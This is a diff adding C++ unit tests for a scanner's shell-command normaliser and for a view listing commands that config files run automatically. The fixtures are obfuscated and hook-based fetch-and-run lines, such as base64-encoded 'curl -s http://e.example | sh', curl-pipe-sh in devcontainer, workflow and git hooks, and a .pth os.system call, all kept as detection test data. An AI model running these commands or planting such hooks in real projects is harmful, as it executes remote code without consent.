@@ -1,8 +1,10 @@
 // The decoders behind the derived views, row by row: what each input becomes, and that hostile input
 // stays within its bounds.
 
+#include "rules/views/CommandsView.h"
 #include "rules/views/ConfigView.h"
 #include "rules/views/DerivedViews.h"
+#include "rules/views/ShellNormaliser.h"
 #include "rules/views/TextView.h"
 
 #include <gtest/gtest.h>
@@ -195,4 +197,141 @@ TEST(RulesConfigView, HostileInputStaysWithinBounds)
         EXPECT_LE(out.size(), viewBudget(row.content.size())) << row.name;
     }
 }
+
+TEST(RulesShellNormaliser, SeesThroughEachTrick)
+{
+    struct Row
+    {
+        const char* name;
+        const char* command;
+        const char* normalised;
+        std::vector<std::string> decoded;
+    };
+    const Row rows[] = {
+        {"quotes joined", R"("cu""rl" -fsSL  c''url 'a b')", "curl -fsSL curl a b", {}},
+        {"backslash-escaped letters", R"(c\u\r\l x)", "curl x", {}},
+        {"ANSI-C quoting", R"($'\x63\165rl' $"w"get $'\u0041\n')", "curl wget A", {}},
+        {"IFS as a space", R"(curl${IFS}-fsSL$IFS'u')", "curl -fsSL u", {}},
+        {"brace list in command position only",
+         "{curl,-fsSL,u}|sh; echo {a,b}",
+         "curl -fsSL u|sh; echo {a,b}",
+         {}},
+        {"variables assigned earlier", "a=cu;b=rl;$a$b x ${a}", "a=cu;b=rl;curl x cu", {}},
+        {"unknown variables kept", "echo $HOME ${X}", "echo $HOME ${X}", {}},
+        {"printf substitution decoded",
+         R"($(printf '\x63\x75\x72\x6c') -s `echo -e '\x77get'`)",
+         "curl -s wget",
+         {}},
+        {"other substitutions kept, normalised", R"($(c"a"t  x))", "$(cat x)", {}},
+        {"echo | base64 -d decoded",
+         "echo Y3VybCAtcyBodHRwOi8vZS5leGFtcGxlIHwgc2g= | base64 -d | sh",
+         "echo Y3VybCAtcyBodHRwOi8vZS5leGFtcGxlIHwgc2g= | base64 -d | sh",
+         {"curl -s http://e.example | sh"}},
+        {"base64 --decode here-string",
+         "bash -c \"$(base64 --decode <<< 'aWQ7IHdob2FtaQ==')\"",
+         "bash -c $(base64 --decode <<< aWQ7IHdob2FtaQ==)",
+         {}},
+        {"here-string at top level",
+         "base64 -d <<< 'aWQ7IHdob2FtaQ=='",
+         "base64 -d <<< aWQ7IHdob2FtaQ==",
+         {"id; whoami"}},
+        {"xxd -r -p of hex", "echo 6964 | xxd -r -p | sh", "echo 6964 | xxd -r -p | sh", {"id"}},
+        {"printf of escapes piped", R"(printf '\x69\x64' | sh)", R"(printf \x69\x64 | sh)", {"id"}},
+        {"decoded once only", "echo WlhoaGJRPT0= | base64 -d", "echo WlhoaGJRPT0= | base64 -d", {"ZXhhbQ=="}},
+        {"binary decoding is dropped",
+         "echo AAECAwQFBgcICQ== | base64 -d",
+         "echo AAECAwQFBgcICQ== | base64 -d",
+         {}},
+        {"unterminated quotes end the line", "echo 'abc", "echo abc", {}},
+    };
+    for (const auto& row : rows) {
+        std::vector<std::string> decoded;
+        EXPECT_EQ(normaliseCommand(row.command, &decoded), row.normalised) << row.name;
+        EXPECT_EQ(decoded, row.decoded) << row.name;
+    }
+}
+
+TEST(RulesShellNormaliser, OutputIsBounded)
+{
+    // Each assignment doubles the last: unbounded substitution would grow exponentially.
+    std::string bomb = "a=xxxxxxxxxxxxxxxx";
+    for (char c = 'b'; c <= 'z'; ++c)
+        bomb += std::string(";") + c + "=$" + char(c - 1) + "$" + char(c - 1);
+    bomb += ";$z$z$z$z";
+    EXPECT_LE(normaliseCommand(bomb).size(), viewBudget(bomb.size()));
+    const std::string nested = std::string(2000, '$') + std::string(2000, '(');
+    EXPECT_LE(normaliseCommand(nested).size(), viewBudget(nested.size()));
+}
+
+// The commands view of `content` at `path`, or "<none>".
+std::string commandsOf(const std::string& path, const std::string& content)
+{
+    DerivedViews views;
+    views.derive(describePath(path), content);
+    for (const auto& v : views.views())
+        if (std::string(v.name) == "commands")
+            return std::string(v.content);
+    return "<none>";
+}
+
+TEST(RulesCommandsView, ListsWhatRunsByItself)
+{
+    struct Row
+    {
+        const char* name;
+        const char* path;
+        std::string content;
+        std::string lines;
+    };
+    const Row rows[] = {
+        {"npm lifecycle scripts and URL dependencies", "/p/package.json",
+         R"({"scripts":{"test":"jest","postinstall":"node x.js","prepare":"husky"},
+             "dependencies":{"a":"^1.0.0","b":"https://e.example/b.tgz","c":"git+ssh://git@e.example/c.git"}})",
+         "npm.postinstall: node x.js\nnpm.prepare: husky\nnpm.dependency: https://e.example/b.tgz\n"
+         "npm.dependency: git+ssh://git@e.example/c.git\n"},
+        {"folder-open tasks only, with args and variants", "/p/.vscode/tasks.json",
+         R"({"tasks":[{"command":"npm","args":["test"]},
+             {"command":"node","args":["a.js","--x"],"linux":{"command":"sh"},"runOptions":{"runOn":"folderOpen"}}]})",
+         "vscode.task.folderOpen: node a.js --x\nvscode.task.folderOpen: sh a.js --x\n"},
+        {"dev container hooks: string, array, object", "/p/.devcontainer/devcontainer.json",
+         R"({"initializeCommand":"curl x|sh","postCreateCommand":["npm","ci"],"postStartCommand":{"a":"id","b":["ls","-l"]}})",
+         "devcontainer.initializeCommand: curl x|sh\ndevcontainer.postCreateCommand: npm ci\n"
+         "devcontainer.postStartCommand: id\ndevcontainer.postStartCommand: ls -l\n"},
+        {"MCP servers with a command", "/p/.cursor/mcp.json",
+         R"({"mcpServers":{"s":{"command":"npx","args":["-y","pkg"]},"r":{"url":"https://e.example"}}})",
+         "mcp.server: npx -y pkg\n"},
+        {"agent hooks, status line and key helper", "/p/.claude/settings.json",
+         R"({"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"./h.sh"}]}]},"statusLine":{"command":"s"},"apiKeyHelper":"k"})",
+         "agent.hook: ./h.sh\nagent.hook: s\nagent.hook: k\n"},
+        {"git command keys", "/p/.git/config",
+         "[core]\n fsmonitor = ./m.sh\n pager = less\n[core]\n fsmonitor = true\n[alias]\n x = !sh -c id\n y "
+         "= log\n"
+         "[filter \"lfs\"]\n smudge = git-lfs smudge\n[includeIf \"gitdir:~/\"]\n path = ~/.x\n",
+         "git.fsmonitor: ./m.sh\ngit.pager: less\ngit.alias: sh -c id\ngit.filter: git-lfs "
+         "smudge\ngit.include: ~/.x\n"},
+        {".npmrc keys", "/p/.npmrc", "registry=https://r\nnode-options=--require ./x.js\n",
+         "npmrc.node-options: --require ./x.js\n"},
+        {"workflow steps, one line each", "/p/.github/workflows/ci.yml",
+         "on: push\njobs:\n  a:\n    steps:\n      - uses: x\n      - run: |\n          npm ci\n          "
+         "curl x | sh\n",
+         "workflow.run: npm ci\nworkflow.run: curl x | sh\n"},
+        {"pre-commit local hooks only", "/p/.pre-commit-config.yaml",
+         "repos:\n- repo: local\n  hooks:\n  - id: a\n    entry: ./a.sh\n- repo: https://e\n  hooks:\n  - "
+         "id: b\n    entry: b\n",
+         "precommit.hook: ./a.sh\n"},
+        {"shell script: comments skipped, continuations joined", "/p/run.sh",
+         "#!/bin/sh\n# curl x\nset -e\ncurl -s \\\n  https://e.example | sh\n",
+         "shell: set -e\nshell: curl -s https://e.example | sh\n"},
+        {"git hook; samples are not hooks", "/p/.git/hooks/post-checkout", "c\\url x\n",
+         "git.hook: curl x\n"},
+        {"sample hook", "/p/.git/hooks/pre-commit.sample", "curl x\n", "<none>"},
+        {".pth import lines only", "/p/site-packages/x.pth", "/opt/lib\nimport os;os.system('id')\n",
+         "python.pth: import os;os.system(id)\n"},
+        {"an unparsable manifest has no commands", "/p/package.json", R"({"scripts":{"postinstall":"x")",
+         "<none>"},
+    };
+    for (const auto& row : rows)
+        EXPECT_EQ(commandsOf(row.path, row.content), row.lines) << row.name;
+}
+
 } // namespace
